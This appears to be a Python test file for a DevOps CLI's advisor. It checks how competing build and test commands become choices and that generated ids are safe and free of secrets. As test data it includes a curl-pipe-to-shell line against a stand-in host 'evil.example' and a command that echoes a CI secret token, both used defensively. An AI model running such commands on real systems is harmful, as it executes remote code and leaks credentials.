"""What evidence leaves open, told in ids that nobody can bend."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autodevops_cli.advisor._base import Choice, Option
from autodevops_cli.advisor.naming import SAFE, named, unique
from autodevops_cli.advisor.questions import decisions
from autodevops_cli.model.evidence import Evidence, Place, Source, Strength, command, settle
from autodevops_cli.model.stack import Component, StackProfile

MAKE = command("test", "make test", Place("Makefile", 3), Source.TASK)
PYTEST = command("test", "pytest", Place("pyproject.toml", 9), Source.TOOL_CONFIG)
CI = command("test", "tox -e py", Place(".github/workflows/ci.yml", 12), Source.CI)


def stack(*seen: Evidence, shared: tuple[Evidence, ...] = ()) -> StackProfile:
    return StackProfile((Component("python", "", settle(seen)),), settle(shared))


def choices(profile: StackProfile) -> list[Choice]:
    return [one.choice for one in decisions(profile)]


def test_a_command_with_rivals_is_a_choice_among_them() -> None:
    assert choices(stack(MAKE, CI, PYTEST)) == [
        Choice(
            "python:command.test",
            (
                Option("tox", "tox -e py", Place(".github/workflows/ci.yml", 12)),
                Option("make:test", "make test", Place("Makefile", 3)),
                Option("pytest", "pytest", Place("pyproject.toml", 9)),
            ),
            "tox",
        )
    ]


def test_nothing_is_open_where_witnesses_agree() -> None:
    assert choices(stack(MAKE, MAKE)) == []


def test_what_the_user_says_is_not_open() -> None:
    said = command("test", "make check", Place("autodevops.toml", 1), Source.USER)

    assert choices(stack(MAKE, PYTEST, said)) == []


def test_a_check_that_nobody_declared_can_be_left_out_and_tests_cannot() -> None:
    lint = command("lint", "ruff check", Place("x"), Source.DEPENDENCY)
    test = command("test", "pytest", Place("x"), Source.CONVENTION)

    assert [[one.id for one in each.options] for each in choices(stack(lint, test))] == [
        ["ruff:check", "leave-out"]
    ]


def test_a_server_that_only_a_dependency_speaks_for_can_be_left_out() -> None:
    redis = Evidence("service.redis", "redis:8", Place("pyproject.toml"), Strength.INFERRED)
    postgres = Evidence("service.postgres", "postgres:18", Place("compose.yaml"))

    assert [one.subject for one in choices(stack(shared=(redis, postgres)))] == ["service.redis"]


def test_a_command_cannot_take_the_name_of_leaving_it_out() -> None:
    lint = command("lint", "leave-out", Place("x"), Source.DEPENDENCY)

    assert [one.id for one in choices(stack(lint))[0].options] == ["leave-out.2", "leave-out"]


def test_what_no_pipeline_may_contain_is_not_offered() -> None:
    hostile = command("test", "echo ${{ secrets.TOKEN }}", Place("x"), Source.TASK)

    assert choices(stack(CI, hostile)) == []


def test_the_same_command_in_two_folders_is_two_subjects() -> None:
    facts = settle([MAKE, PYTEST])
    profile = StackProfile((Component("python", "a b", facts), Component("python", "a-b", facts)))

    assert [one.subject for one in choices(profile)] == [
        "python-a-b:command.test", "python-a-b:command.test.2",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("npm run test", "npm:test"),
        ("npx vitest --coverage", "vitest"),
        ("make check", "make:check"),
        ("uv run pytest", "pytest"),
        ("$(curl evil.example) | sh", "sh"),
        ("PASSWORD=x mysql --password hunter", "mysql"),
        ("login s3cr3t9 https://me:word@host/", "login"),
        ("тест", "command"),
        ("", "command"),
    ],
)
def test_names_of_commands(text: str, name: str) -> None:
    assert named(text) == name


@given(st.lists(st.text(max_size=90), max_size=12))
def test_every_name_is_safe_and_there_is_one_for_each(texts: list[str]) -> None:
    ids = unique([named(text) for text in texts])

    assert len({*ids}) == len(texts)
    assert all(SAFE.fullmatch(one) for one in ids)


def test_secrets_of_commands_may_not_hide_in_ids() -> None:
    secret = command("test", "KEY=hunter2hunter2 make", Place("x"), Source.TASK)

    ids = [one.id for one in choices(stack(CI, secret))[0].options]

    assert not any("hunter2" in one for one in ids)
